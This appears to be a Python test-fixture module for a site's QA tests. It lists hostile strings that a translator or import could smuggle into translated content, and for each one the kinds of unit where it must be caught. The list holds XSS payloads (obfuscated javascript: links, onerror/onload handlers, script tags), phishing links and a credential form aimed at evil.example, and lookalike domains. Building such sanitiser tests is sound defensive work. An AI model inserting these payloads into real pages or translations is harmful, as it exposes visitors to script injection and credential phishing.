"""Hostile strings, as a translator, DeepL or an import could deliver them, and where each is hostile.

Shared by the QA tests (tests/test_hostile.py) and the planted build. `evil.example` and `alert(` are
markers: none may reach the built site.
"""

from __future__ import annotations

#: The entry points of a translation: the kinds of unit a string is planted in.
KINDS = ("paragraph", "heading", "cell", "list-item", "admonition-title", "title", "description", "faq-question")

#: (hostile string, the kinds where it must be caught; empty = all)
HOSTILE: list[tuple[str, tuple[str, ...]]] = [
    ("[English](javascript:alert(1))", ()),
    ("[English](JaVaScRiPt:alert(1))", ()),
    ("[English](jav&#x61;script:alert(1))", ()),
    ("[English](&#106;avascript:alert(1))", ()),
    ("[English](java&#09;script:alert(1))", ()),
    ("[English](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ()),
    ("[English](vbscript:alert(1))", ()),
    ("<javascript:alert(1)>", ()),
    ("<https://evil.example/login>", ()),
    ("Log in at <https://evil.example/login> now", ()),
    ("[sign in][r]\n\n[r]: //evil.example/login", ()),
    ("[r]: https://evil.example/login", ()),
    ("\\<img src=x onerror=alert(1)>", ()),
    ("<img src=x onerror=alert(1)>", ()),
    ("<svg onload=alert(1)>", ()),
    ("<svg><script>alert(1)</script></svg>", ()),
    ('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', ()),
    ("<details open ontoggle=alert(1)>", ()),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ()),
    ('<iframe src="https://evil.example/"></iframe>', ()),
    ('<a href="https://evil.example/">the official site</a>', ()),
    ("<script>alert(1)</script>", ()),
    ("<style>body{display:none}</style>", ()),
    ('<form action="https://evil.example/"><input name=password></form>', ()),
    ('<base href="https://evil.example/">', ()),
    ('<object data="https://evil.example/x"></object>', ()),
    ('<embed src="https://evil.example/x">', ()),
    ("<!-- x --><img src=x onerror=alert(1)>", ()),
    ("Check the address {: onmouseover=alert(1) }", ()),
    ('Check the address {: href="//evil.example/login" }', ()),
    ('Check the address {: style="position:fixed;top:0" }', ()),
    ('Help" onmouseover="alert(1)', ()),
    ("</title><script>alert(1)</script>", ()),
    ("Visit hoshi-exchange.example.login-help.net to verify", ()),
    ("Go to www.hoshi-exchange.example@evil.example to verify", ()),
    ("Visit hoshi-exchаnge.example to verify", ()),  # Cyrillic а
    ("Visit h0shi-exchange.example to verify", ()),
    ("Write to support@hoshi-exchange-help.example", ()),
    ("Call 0120-000-128 for help", ()),
    ("Open https://hoshi-exchange.example.evil.example/verify", ()),
    ("Use the [official site](https://www.hoshi-exchange.example/)", ()),
    ("![logo](https://evil.example/pixel.png)", ()),
    ("[sign in](//evil.example/login)", ()),
    ("[sign in](/\\evil.example/login)", ()),
    ("[sign in](https://evil.example/login)", ()),
    ("Contact {{ channels.support_form }} now", ()),
    ("<a href=x onclick=alert(1)>help</a>", ()),
    ("Japanese | Korean", ("cell",)),
]

#: The ones a writer's Japanese source must not contain either: markup and links (domains and
#: addresses in a source's plain text are the writer's own words; an unused reference definition
#: publishes nothing).
SOURCE_HOSTILE = [s for s, _ in HOSTILE if s.startswith(("[", "<", "\\<", "![")) and not s.startswith("[r]:")] + [
    "テキスト\n{: onmouseover=alert(1) }",
    '[テキスト](https://www.hoshi-exchange.example/){: href="//evil.example/login" }',
    'テキスト\n{: style="position:fixed;top:0" }',
]
